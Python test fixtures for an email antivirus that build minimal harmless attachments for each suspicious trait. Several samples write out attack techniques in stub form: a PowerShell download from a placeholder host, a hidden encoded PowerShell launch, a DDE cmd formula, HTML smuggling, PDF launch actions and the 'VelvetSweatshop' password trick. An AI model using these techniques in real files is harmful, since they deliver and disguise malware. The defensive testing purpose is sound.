"""For each trait the smallest attachment that shows it. Nothing here does harm: names, headers and words only."""

from __future__ import annotations

import base64
import io
import random
import struct
import zipfile
from collections.abc import Callable

import pikepdf
from attrs import frozen
from msoffcrypto.format.ooxml import OOXMLFile

from mailward_antivirus.disarm.emptyole import EMPTY_OLE


@frozen
class Sample:
    """An attachment by name and content, and the text of the message it comes with."""

    name: str
    content: bytes
    text: str = "hello"


def pe(section: bytes = b".text", flags: int = 0x60000020, code: bytes = b"\x90" * 4096, entry: int = 0x1000) -> bytes:
    head = b"MZ".ljust(60, b"\0") + struct.pack("<I", 64)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
    optional = struct.pack("<HBBIIII", 0x20B, 14, 0, len(code), 0, 0, entry).ljust(240, b"\0")
    header = struct.pack("<8sIIIIIIHHI", section, len(code), 0x1000, len(code), 512, 0, 0, 0, 0, flags)
    return (head + coff + optional + header).ljust(512, b"\0") + code


def elf(flags: int = 5) -> bytes:
    head = b"\x7fELF\x02\x01\x01".ljust(16, b"\0")
    fields = struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400000, 64, 4096, 0, 64, 56, 1, 64, 3, 2)
    return (head + fields + struct.pack("<II48x", 1, flags)).ljust(4096, b"\0")


def zipped(members: dict[str, bytes], prefix: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return prefix + out.getvalue()


def locked_zip() -> bytes:
    data = bytearray(zipped({"a.txt": b"x" * 40}))
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(signature) + place] |= 1
    return bytes(data)


def two_named_zip() -> bytes:
    return zipped({"aaa.txt": b"x"}).replace(b"aaa.txt", b"bbb.exe", 1)


def lnk(target: str, arguments: str) -> bytes:
    flags = 0x08 | 0x20 | 0x80
    head = struct.pack("<I", 76) + b"\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + struct.pack("<I", flags)
    strings = [struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in (target, arguments)]
    return head.ljust(76, b"\0") + b"".join(strings)


def one_note(*files: bytes) -> bytes:
    guid = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    objects = [guid + struct.pack("<Q", len(file)).ljust(20, b"\0") + file for file in files]
    return bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3").ljust(1024, b"\0") + b"".join(objects)


def ooxml(members: dict[str, bytes]) -> bytes:
    return zipped({"[Content_Types].xml": b"<?xml version='1.0'?><Types/>", **members})


def relationship(kind: str, target: str) -> bytes:
    return (
        f'<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://x/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def macros(body: str, events: str = "") -> bytes:
    basic = f"Sub A\n{body}\nEnd Sub"
    module = f'<?xml version="1.0"?><script:module xmlns:script="s" script:name="M">{basic}</script:module>'
    content = f'<?xml version="1.0"?><office:document-content>{events}</office:document-content>'
    return zipped(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "Basic/Standard/M.xml": module.encode(),
            "content.xml": content.encode(),
        }
    )


def pdf(build: Callable[[pikepdf.Pdf], None]) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        build(document)
        document.save(out)
    return out.getvalue()


def opens(**action: object) -> bytes:
    def build(document: pikepdf.Pdf) -> None:
        named = {f"/{key}": value for key, value in action.items()}
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(named))

    return pdf(build)


def carrying(name: str, content: bytes) -> bytes:
    def build(document: pikepdf.Pdf) -> None:
        document.attachments[name] = content

    return pdf(build)


def default_password() -> bytes:
    """A workbook that Excel opens without asking for its password."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}"/></Types>'
    )
    plain, out = io.BytesIO(zipped({"[Content_Types].xml": types.encode()})), io.BytesIO()
    OOXMLFile(plain).encrypt("VelvetSweatshop", out)
    return out.getvalue()


B64 = base64.b64encode(bytes(range(256)) * 12)
NOISE = random.Random(1).randbytes(8192)
PNG = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\0IEND\xaeB`\x82"
XML = b'<?xml version="1.0"?>'
XLM = XML + b'<xm:macrosheet xmlns:xm="m"><sheetData><row><c><f>%s</f></c></row></sheetData></xm:macrosheet>'
PAGE = b"<html><body>%s</body></html>"
SMUGGLER = (
    PAGE
    % b"<script>var b=new Blob([atob('%s')]);a.href=URL.createObjectURL(b);a.download='x.zip'</script>"
    % B64
)  # fmt: skip
EQUATION = bytes.fromhex("02ce020000000000c000000000000046")
JAVASCRIPT = pikepdf.Name("/JavaScript")
NAMED = XML + b'<definedName name="_xlnm.Auto_Open">x</definedName>'

SAMPLES: dict[str, Sample] = {
    "double_extension": Sample("invoice.pdf.exe", b"nothing"),
    "hidden_extension": Sample("invoice.pdf" + " " * 40 + ".scr", b"nothing"),
    "bidirectional_name": Sample("invoice\u202efdp.exe", b"nothing"),
    "disguised_program": Sample("photo.jpg", pe()),
    "disguised_content": Sample("report.pdf", PNG),
    "program": Sample("setup.exe", pe()),
    "program_packed": Sample("setup.exe", pe(code=NOISE)),
    "program_odd_header": Sample("setup.exe", pe(flags=0xE0000020)),
    "script": Sample("a.ps1", b"Write-Output 1"),
    "script_encoded": Sample("a.jse", b"#@~^AAAAAA=="),
    "script_runs": Sample("a.js", b'new ActiveXObject("WScript.Shell").Run("calc")'),
    "script_fetches": Sample("a.ps1", b"(New-Object Net.WebClient).DownloadFile('http://x/', 'y')"),
    "script_hides": Sample("a.bat", b"powershell -w hidden -enc " + b"QUJD" * 20),
    "shortcut": Sample("a.lnk", lnk("..\\notes.txt", "")),
    "shortcut_runs": Sample("a.lnk", lnk("..\\System32\\cmd.exe", "/c start")),
    "shortcut_hides": Sample("a.lnk", lnk("..\\notes.txt", " " * 300 + "x")),
    "launcher": Sample("a.wsb", b"<Configuration></Configuration>"),
    "launcher_runs": Sample("a.wsb", b"<Configuration><LogonCommand><Command>cmd</Command></LogonCommand>"),
    "link_file": Sample("a.url", b"[InternetShortcut]\r\nURL=https://example.com/\r\n"),
    "link_runs": Sample("a.url", b"[InternetShortcut]\r\nURL=file://host/share/a.js\r\n"),
    "note_embeds": Sample("a.one", one_note(b"plain text")),
    "note_program": Sample("a.one", one_note(b"<script>1</script>")),
    "disk_image": Sample("a.iso", b"\0" * 40_000),
    "macro": Sample("a.odt", macros("MsgBox 1")),
    "macro_starts": Sample("a.odt", macros("Sub Document_Open()")),
    "macro_runs": Sample("a.odt", macros('Shell("calc")')),
    "macro_fetches": Sample("a.odt", macros('CreateObject("MSXML2.XMLHTTP")')),
    "macro_writes": Sample("a.odt", macros('Open "x" For Output As 1')),
    "macro_hides": Sample("a.odt", macros("s = " + " &amp; ".join(["Chr(65)"] * 30))),
    "macro_unreadable": Sample("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600),
    "xlm_macro": Sample("a.xlsm", ooxml({"xl/macrosheets/sheet1.xml": XLM % b"HALT()"})),
    "xlm_starts": Sample("a.xlsm", ooxml({"xl/workbook.xml": NAMED})),
    "xlm_runs": Sample("a.xlsm", ooxml({"xl/macrosheets/sheet1.xml": XLM % b"EXEC(1)"})),
    "dde": Sample("a.csv", b'a,b\n=cmd|"/c calc"!A1,2\n'),
    "action_runs": Sample(
        "a.pptx", ooxml({"ppt/slides/slide1.xml": XML + b'<a:hlinkMouseOver r:id="r1" action="ppaction://program"/>'})
    ),
    "external_template": Sample(
        "a.docx", ooxml({"word/_rels/settings.xml.rels": relationship("attachedTemplate", "https://host/a.dotm")})
    ),
    "external_object": Sample(
        "a.docx", ooxml({"word/_rels/document.xml.rels": relationship("oleObject", "https://host/a.doc")})
    ),
    "external_moniker": Sample(
        "a.docx", ooxml({"word/_rels/document.xml.rels": relationship("oleObject", "mhtml:https://host/a.html!x")})
    ),
    "embedded_object": Sample("a.docx", ooxml({"word/embeddings/oleObject1.bin": EMPTY_OLE})),
    "embedded_program": Sample("a.docx", ooxml({"word/embeddings/a.exe": pe()})),
    "equation": Sample("a.docx", ooxml({"word/embeddings/oleObject1.bin": EMPTY_OLE[:512] + EQUATION})),
    "default_password": Sample("a.xlsx", default_password()),
    "rtf_object": Sample("a.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0102}}}"),
    "rtf_object_starts": Sample("a.rtf", b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 0102}}}"),
    "rtf_hides": Sample("a.rtf", b"{\\rtfx text}"),
    "pdf_script": Sample("a.pdf", opens(S=JAVASCRIPT, JS="app.alert(1)")),
    "pdf_starts": Sample("a.pdf", opens(S=JAVASCRIPT, JS="app.alert(1)")),
    "pdf_launch": Sample("a.pdf", opens(S=pikepdf.Name("/Launch"), F="calc")),
    "pdf_embeds": Sample("a.pdf", carrying("a.txt", b"text")),
    "pdf_program": Sample("a.pdf", carrying("a.exe", pe())),
    "pdf_submits": Sample("a.pdf", opens(S=pikepdf.Name("/SubmitForm"), F="https://host/")),
    "pdf_hides": Sample("a.pdf", opens(S=JAVASCRIPT, JS="1").replace(b"/OpenAction", b"/Open#41ction")),
    "pdf_unreadable": Sample("a.pdf", b"%PDF-1.7\n/OpenAction trailer\n"),
    "html_script": Sample("a.html", PAGE % b"<script>1</script>"),
    "html_smuggles": Sample("a.html", SMUGGLER),
    "html_hides": Sample("a.html", PAGE % b"<script>document.write(unescape('%41'))</script>"),
    "html_asks_password": Sample("a.html", PAGE % b"<input type=password>"),
    "html_submits": Sample("a.html", PAGE % b"<form action='https://host/x'>"),
    "html_redirects": Sample("a.html", PAGE % b"<meta http-equiv=refresh content='0; url=https://host/'>"),
    "password_in_text": Sample("a.zip", locked_zip(), "The password is: secret77"),
    "polyglot": Sample("a.gif", zipped({"a.txt": b"x"}, prefix=b"GIF89a" + b"\0" * 64)),
    "disagreeing_headers": Sample("a.zip", two_named_zip()),
    "appended_data": Sample("a.png", PNG + b"\0" * 500),
}
